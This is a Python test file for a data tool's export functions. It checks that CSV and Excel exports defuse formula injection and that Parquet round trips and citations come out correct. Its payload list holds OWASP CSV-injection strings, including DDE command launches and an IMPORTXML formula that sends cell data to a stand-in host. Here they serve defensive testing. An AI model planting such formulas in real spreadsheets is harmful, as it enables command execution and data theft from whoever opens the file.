"""Test that exports keep their data exact and no cell can run as a spreadsheet formula."""

import io
from datetime import date

import openpyxl
import pandas as pd
import pytest

from atlas.export import citation_lines, neutralize, safe_cell, to_csv, to_parquet, to_xlsx

# OWASP CSV-injection payloads, and harmless look-alikes that must stay as they are.
PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(CONCAT(\"http://e.example/?\",A1),\"//a\")",
    "+cmd|'/C notepad'!'A1'", "-2+3+cmd|' /C calc'!A0", "@cmd|'/C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "=2*3", "==1", "=-1", "+=1", "-=1", "@=1", "=1;=2",
]
HARMLESS = ["Xi'an", "1.25", "≤1.25", "中国", "", "a=b", "PUE <1.2"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payload_is_neutralised(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_numbers_stay_numbers():
    frame = neutralize(pd.DataFrame({"value": [-45.0, 1.2], "note": ["-45 %", "ok"]}))
    assert frame["value"].tolist() == [-45.0, 1.2]
    assert frame["note"].tolist() == ["'-45 %", "ok"]


def test_csv_cells_cannot_run_as_formulas():
    frame = pd.DataFrame({"payload": PAYLOADS, "n": range(len(PAYLOADS))})
    back = pd.read_csv(io.BytesIO(to_csv(frame)), encoding="utf-8-sig", keep_default_na=False)
    assert all(cell.startswith("'") for cell in back["payload"])
    assert back["n"].tolist() == list(range(len(PAYLOADS)))


def test_xlsx_cells_are_text_not_formulas_and_citation_sheet_exists():
    frame = pd.DataFrame({"payload": PAYLOADS, "name": ["西安"] * len(PAYLOADS)})
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame, citation=["Title", "=evil()"])))
    cells = [row[0] for row in book["data"].iter_rows(min_row=2)]
    assert all(c.data_type == "s" and c.value.startswith("'") for c in cells)
    assert [c.value for c in book["citation"]["A"]] == ["citation", "Title", "'=evil()"]
    assert book["data"]["B2"].value == "西安"


def test_parquet_round_trip_is_exact():
    frame = pd.DataFrame({"id": ["a", "b"], "value": [1.5, None]})
    back = pd.read_parquet(io.BytesIO(to_parquet(frame)))
    pd.testing.assert_frame_equal(back, frame, check_dtype=False)


def test_citation_lines():
    sources = pd.DataFrame({"quality": ["A"], "publisher": ["Xinhua"], "title": ["Hubs approved"],
                            "url": ["http://example.org/x"]})
    lines = citation_lines("Centers", sources, ("2021", "2025-06"), "http://localhost/data?table=centers",
                           exported=date(2026, 11, 27))
    assert lines == ["Centers", "Exported 2026-11-27 from Compute Atlas: http://localhost/data?table=centers",
                     "As of: 2021 to 2025-06",
                     "Sources (grade A = official or mainstream citing one; B = trade/company/local; C = weak):",
                     "- [A] Xinhua: Hubs approved. http://example.org/x"]


def test_image_that_cannot_render_in_time_gives_none_and_html_from_then_on(monkeypatch):
    import threading

    import plotly.graph_objects as go

    from atlas import export

    fig = go.Figure(go.Bar(x=["a"], y=[1]))
    gate = threading.Event()
    monkeypatch.setattr(export, "_image_server_started", True)
    monkeypatch.setattr(export, "_images_failed", False)
    monkeypatch.setattr(type(fig), "to_image", lambda self, **kw: gate.wait(5) or b"late")
    assert export.figure_image(fig, "png", timeout=0.2) is None  # a hung export is cut off
    assert not export.images_available()
    gate.set()
    assert export.figure_html(fig, "T").startswith(b"<!doctype html>")
